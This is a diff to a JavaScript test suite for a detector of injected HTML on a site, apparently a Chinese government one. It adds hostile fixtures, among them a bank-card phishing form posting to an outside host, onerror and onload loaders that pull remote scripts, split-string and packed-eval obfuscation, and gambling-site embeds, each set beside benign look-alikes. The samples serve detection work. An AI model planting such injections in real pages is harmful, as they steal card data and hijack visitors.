@@ -36,6 +36,43 @@ describe('leads elsewhere', () => {
       '<iframe src="http://kawa.example.com/" style="position:fixed;width:100%;height:100%"></iframe>',
       'frame',
     ],
+    ['a base abroad', '<base href="https://www.kawa-spread.net/">', 'base'],
+    [
+      'a form that asks for bank cards',
+      '</head><body><form action="http://login.kawa-safe.com/post.php">姓名<input name="n">银行卡号<input name="c"></form>',
+      'form',
+    ],
+    [
+      'a picture that loads a script when it fails',
+      '</head><body><img src="x" onerror="var s=document.createElement(\'script\');s.src=\'//tj.kawa-spread.com/j\';document.body.appendChild(s)">',
+      'source',
+    ],
+    [
+      'an address in pieces',
+      '<script>(function(){var d=document,s=d.createElement("scr"+"ipt");s.src="//js.ka"+"wa-tj.c"+"om/go.js";d.head.appendChild(s)})();</script>',
+      'disguised',
+    ],
+    [
+      'a page that loads a script when it is shown',
+      "</head><body onload=\"setTimeout(function(){var s=document.createElement('script');s.src='//sdk.kw-tj.xyz/gg.js';document.body.appendChild(s)},1500)\"><p>报告</p>",
+      'source',
+    ],
+    [
+      'a title in numbers of characters',
+      '<script>document.title=String.fromCharCode(30343,23478,36172,22330,95,30343,23478,22269,38469,23089,20048);</script>',
+      'script',
+    ],
+    [
+      'packed words that ask where visitors come from',
+      `<script>eval(function(p,a,c,k,e,d){return p}('0(1.2.3("4")>=0){5.6="7://8.9/"}',10,10,'if|document|referrer|indexOf|baidu|location|href|https|wap|k8x'.split('|'),0,{}))</script>`,
+      'packed',
+    ],
+    ['a script from a seller', '<script src="//www.kw-bocai.com/hm.js"></script>', 'source'],
+    [
+      'a seller’s page embedded',
+      '</head><body><object data="https://kw-casino.com/game" type="text/html" width="300" height="200"></object>',
+      'embed',
+    ],
   ])('%s', (_, inside, say) => {
     expect(said(inside)).toEqual([say]);
   });
@@ -51,6 +88,20 @@ describe('honest', () => {
     [
       'phones, on another name of the site',
       '<script>if(/baiduboxapp/i.test(navigator.userAgent)){location.href="https://m.chengyuan.gov.cn/"}</script>',
+    ],
+    ['a base on the site’s other name', '<base href="http://www.lanze-port.cn/">'],
+    ['a base on the site', '<base href="http://www.chengyuan.gov.cn/">'],
+    [
+      'a form of a mail service',
+      '</head><body><form action="https://mail.kawa.com/login">账号<input name="u">密码<input type="password"></form>',
+    ],
+    [
+      'a picture in place of one that is gone',
+      '</head><body><img src="x" onerror="this.src=\'/images/none.png\'">',
+    ],
+    [
+      'strings joined',
+      '<script>document.write("<scr"+"ipt src=\'/js/count.js\'></scr"+"ipt>")</script><script src="https://www.kawa.com/a.js"></script>',
     ],
     ['a way back', '<script>function back(){location.href=document.referrer||"/"}</script>'],
     ['a refresh on the site', '<meta http-equiv="refresh" content="0;url=/index.html">'],
